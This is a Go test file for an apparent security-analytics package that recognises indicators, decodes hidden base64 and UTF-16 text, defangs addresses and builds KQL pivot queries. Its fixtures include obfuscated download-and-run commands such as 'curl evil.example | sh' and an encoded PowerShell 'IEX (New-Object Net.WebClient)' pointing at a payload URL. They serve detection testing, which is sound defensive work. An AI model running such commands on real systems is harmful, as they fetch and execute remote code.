package entity_test

import (
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"quarry/entity"
	"quarry/kql/sema"
	"quarry/kql/syntax"
	"quarry/table"
)

func TestValuesAreRecognized(t *testing.T) {
	tests := []struct {
		column, text string
		want         entity.Kind
	}{
		{"SHA1", strings.Repeat("a1", 20), entity.SHA1},
		{"DeviceId", strings.Repeat("a1", 20), entity.DeviceID},
		{"X", strings.Repeat("A1", 32), entity.SHA256},
		{"MD5", strings.Repeat("0f", 16), entity.MD5},
		{"RemoteIP", "10.0.0.1", entity.IP}, {"RemoteIP", "2001:db8::1", entity.IP},
		{"RemoteUrl", "10.0.0.1", entity.IP},
		{"RemoteUrl", "evil.example.com", entity.Domain}, {"X", "https://evil.example/a?b", entity.URL},
		{"SenderFromAddress", "a.b@example.com", entity.Mail}, {"AccountUpn", "a.b@example.com", entity.AccountUPN},
		{"InitiatingProcessAccountName", "svc", entity.AccountName}, {"AccountSid", "S-1-5-18", entity.AccountSID},
		{"DeviceName", "ws-1.contoso.com", entity.DeviceName}, {"FileName", "cmd.exe", entity.FileName},
		{"ActionType", "ProcessCreated", entity.Plain}, {"X", "", entity.Plain}, {"X", "version 1.2.3", entity.Plain},
	}
	for _, test := range tests {
		if got := entity.Recognize(test.column, table.NewString(test.text)); got != test.want {
			t.Errorf("%s = %q: got kind %d, want %d", test.column, test.text, got, test.want)
		}
	}
}

func TestHiddenTextIsDecoded(t *testing.T) {
	wide := func(text string) string {
		var raw []byte
		for _, u := range utf16.Encode([]rune(text)) {
			raw = binary.LittleEndian.AppendUint16(raw, u)
		}
		return base64.StdEncoding.EncodeToString(raw)
	}
	inner := base64.StdEncoding.EncodeToString([]byte("http://10.1.2.3/payload.bin"))
	tests := []struct {
		name, text string
		want       []entity.Decoded
	}{
		{"powershell", "powershell.exe -nop -enc " + wide("IEX (New-Object Net.WebClient)"),
			[]entity.Decoded{{"UTF-16 in base64", "IEX (New-Object Net.WebClient)"}}},
		{"plain", "echo " + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")) + " | base64 -d",
			[]entity.Decoded{{"base64", "curl evil.example | sh"}}},
		{"without padding", base64.RawURLEncoding.EncodeToString([]byte("hello hidden world?>")),
			[]entity.Decoded{{"base64", "hello hidden world?>"}}},
		{"one in another", wide("FromBase64String('" + inner + "')"),
			[]entity.Decoded{{"UTF-16 in base64", "FromBase64String('" + inner + "')"},
				{"base64", "http://10.1.2.3/payload.bin"}}},
		{"hash", strings.Repeat("deadbeef", 8), nil},
		{"path", `C:\Windows\System32\WindowsPowerShell\powershell.exe /ThisIsNotBase64AtAll`, nil},
		{"nothing", "", nil},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got := entity.Decode(test.text)
			if len(got) != len(test.want) {
				t.Fatalf("Decode(%q) = %q, want %q", test.text, got, test.want)
			}
			for i := range got {
				if got[i] != test.want[i] {
					t.Errorf("text %d: got %q, want %q", i, got[i], test.want[i])
				}
			}
		})
	}
}

func TestAddressesAreDefanged(t *testing.T) {
	tests := map[string]string{
		"https://evil.example.com/a.php?x=1": "hxxps[://]evil.example[.]com/a.php?x=1",
		"10.20.30.40:8080":                   "10.20.30[.]40:8080",
		"mail a.b@evil.example now":          "mail a.b[@]evil[.]example now",
		`C:\Windows\cmd.exe /c run.ps1`:      `C:\Windows\cmd.exe /c run.ps1`,
		"nothing here":                       "nothing here",
	}
	for text, want := range tests {
		if got := entity.Defang(text); got != want {
			t.Errorf("Defang(%q) = %q, want %q", text, got, want)
		}
	}
}

// TestPivotsAreValidQueries parses and binds the pivots of every kind of value.
func TestPivotsAreValidQueries(t *testing.T) {
	values := map[string]string{
		"SHA256": strings.Repeat("ab", 32), "SHA1": strings.Repeat("ab", 20), "MD5": strings.Repeat("ab", 16),
		"RemoteIP": "10.0.0.1", "RemoteUrl": "https://evil.example/\"x\"", "AccountName": "o'neill \"x\"",
		"AccountUpn": "a@b.example", "AccountSid": "S-1-5-18",
		"AccountObjectId": "0c0c", "SenderFromAddress": "a@b.example", "FileName": "a\\b\u202e.exe",
		"NetworkMessageId": "m", "AlertId": "da1",
		"DeviceName": "ws-1", "DeviceId": "d1", "ActionType": "ProcessCreated", "Nowhere": "x",
	}
	columns := []table.Column{{Name: "Timestamp", Type: table.DateTime}}
	row := []table.Value{table.NewDateTime(639000000000000000)}
	for name, text := range values {
		columns = append(columns, table.Column{Name: name})
		row = append(row, table.NewString(text))
	}
	b := table.NewBuilder(columns)
	b.Append(row...)
	answer := b.Table()
	for i, c := range columns {
		for _, p := range entity.Pivots(entity.Cells("mde", answer, i, 0)) {
			if strings.Contains(p.Query, "Email") || strings.Contains(p.Query, "Identity") ||
				strings.Contains(p.Query, "Alert") {
				t.Errorf("%s, %s: not served by mde:\n%s", c.Name, p.Title, p.Query)
			}
		}
		pivots := entity.Pivots(entity.Cells("graph", answer, i, 0))
		if len(pivots) == 0 {
			t.Errorf("%s has no pivots", c.Name)
		}
		for _, p := range pivots {
			tree := syntax.Parse(p.Query)
			if len(tree.Diagnostics) > 0 {
				t.Errorf("%s, %s: %v in\n%s", c.Name, p.Title, tree.Diagnostics, p.Query)
			}
			for _, d := range sema.Bind(tree, nil).Diagnostics {
				t.Errorf("%s, %s: %v in\n%s", c.Name, p.Title, d, p.Query)
			}
		}
	}
}
